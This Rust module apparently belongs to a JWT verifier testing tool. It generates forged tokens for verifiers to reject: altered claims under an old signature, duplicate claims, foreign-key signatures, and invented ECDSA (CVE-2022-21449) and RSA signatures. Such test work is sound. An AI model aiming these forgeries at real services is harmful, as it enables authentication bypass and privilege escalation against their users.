//! Tokens whose signature does not fit their content: another token's, an older one's, or an invented one.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use jsonwebtoken::Algorithm;
use serde_json::json;

use crate::error::ForgeryError;
use crate::public_key::{PublicKey, encode_der_integers};
use crate::signing_key::SigningKey;
use crate::token::{ForgedToken, Token};

/// The order of P-256 (FIPS 186-4, D.1.2.3), which equals zero in the arithmetic of signatures.
const P256_ORDER: [u8; 32] = [
    0xff, 0xff, 0xff, 0xff, 0x00, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xbc,
    0xe6, 0xfa, 0xad, 0xa7, 0x17, 0x9e, 0x84, 0xf3, 0xb9, 0xca, 0xc2, 0xfc, 0x63, 0x25, 0x51,
];

pub(crate) fn forge_tokens(
    good: &Token,
    issuer: &PublicKey,
    attacker: &SigningKey,
) -> Result<Vec<ForgedToken>, ForgeryError> {
    let mut forged = changed_contents(good);
    forged.extend(foreign_keys(good, attacker)?);
    let signature = URL_SAFE_NO_PAD.decode(&good.parts[2]).map_err(|_| ForgeryError::Malformed)?;
    forged.extend(match issuer {
        PublicKey::Rsa { modulus, .. } => invented_rsa_signatures(good, modulus),
        PublicKey::P256 { .. } => invented_ecdsa_signatures(good, &signature),
    });
    forged.push(ForgedToken::new(
        "half of the signature",
        good.with_signature(&signature[..signature.len() / 2]),
    ));
    forged.push(ForgedToken::new(
        "signature with an extra byte",
        good.with_signature([&signature[..], &[0]].concat()),
    ));
    Ok(forged)
}

/// Returns tokens with the good signature and other claims or another header.
fn changed_contents(good: &Token) -> Vec<ForgedToken> {
    let expires = good.claims["exp"].as_u64().unwrap_or_default();
    let claims = good.claims.to_string();
    // A duplicate claim before the real one: parsers differ in which of the two they use.
    let with_duplicate = |first: &str| claims.replacen('{', &format!("{{{first},"), 1);
    let changed = [
        ("a later expiry", good.claims_with("exp", expires.saturating_add(31_536_000)).to_string()),
        ("no expiry", good.claims_with("exp", json!(null)).to_string()),
        ("more scopes", good.claims_with("scope", "admin read:items write:items").to_string()),
        ("another audience", good.claims_with("aud", "https://attacker.invalid").to_string()),
        ("another issuer", good.claims_with("iss", "https://attacker.invalid/").to_string()),
        ("another subject", good.claims_with("sub", "admin").to_string()),
        ("duplicate scope", with_duplicate(r#""scope":"admin""#)),
        ("duplicate expiry", with_duplicate(r#""exp":4102444800"#)),
        ("an extra space", format!("{claims} ")),
        ("no claims", "{}".to_owned()),
    ];
    let mut forged: Vec<ForgedToken> = changed
        .into_iter()
        .map(|(what, claims)| ForgedToken::new(format!("old signature, {what}"), good.with_payload(claims)))
        .collect();
    let header = good.header_with("x-restctl", true);
    forged.push(ForgedToken::new("old signature, an extra header parameter", good.with_header(&header)));
    forged
}

/// Returns tokens with good claims and the known key id, signed with keys that are not the issuer's.
fn foreign_keys(good: &Token, attacker: &SigningKey) -> Result<Vec<ForgedToken>, ForgeryError> {
    let (p256, rsa) = (SigningKey::generate_p256()?, SigningKey::generate_rsa()?);
    let mut forged = Vec::new();
    for (key, algorithm, name) in [
        (&p256, Algorithm::ES256, "ES256"),
        (&rsa, Algorithm::RS256, "RS256"),
        (&rsa, Algorithm::PS256, "PS256"),
        (&SigningKey::generate_ed25519()?, Algorithm::EdDSA, "EdDSA"),
    ] {
        let token = key.sign_token_with(algorithm, &good.header_with("alg", name), &good.claims)?;
        forged.push(ForgedToken::new(format!("foreign key, {name}"), token));
    }
    let another_subject = attacker.sign_token(&good.header, good.claims_with("sub", "admin"))?;
    forged.push(ForgedToken::new("foreign key, another subject", another_subject));
    Ok(forged)
}

/// CVE-2022-21449: values that satisfy a verifier which does not check their range.
fn invented_ecdsa_signatures(good: &Token, signature: &[u8]) -> Vec<ForgedToken> {
    let (r, s) = signature.split_at(signature.len() / 2);
    let mut one = [0; 64];
    one[31] = 1;
    one[63] = 1;
    vec![
        ForgedToken::new("ECDSA signature of zeros", good.with_signature([0; 64])),
        ForgedToken::new(
            "ECDSA signature of the curve's order",
            good.with_signature([P256_ORDER, P256_ORDER].concat()),
        ),
        ForgedToken::new("ECDSA signature of ones", good.with_signature(one)),
        ForgedToken::new(
            "ECDSA signature of zeros in DER",
            good.with_signature(encode_der_integers(&[0], &[0])),
        ),
        ForgedToken::new("ECDSA signature in DER", good.with_signature(encode_der_integers(r, s))),
        ForgedToken::new("ECDSA signature, halves swapped", good.with_signature([s, r].concat())),
    ]
}

fn invented_rsa_signatures(good: &Token, modulus: &[u8]) -> Vec<ForgedToken> {
    let mut one = vec![0; modulus.len()];
    if let Some(last) = one.last_mut() {
        *last = 1;
    }
    vec![
        ForgedToken::new("RSA signature of zeros", good.with_signature(vec![0; modulus.len()])),
        ForgedToken::new("RSA signature of one", good.with_signature(one)),
        ForgedToken::new("RSA signature of the modulus", good.with_signature(modulus)),
        ForgedToken::new("RSA signature of a single zero", good.with_signature([0])),
    ]
}
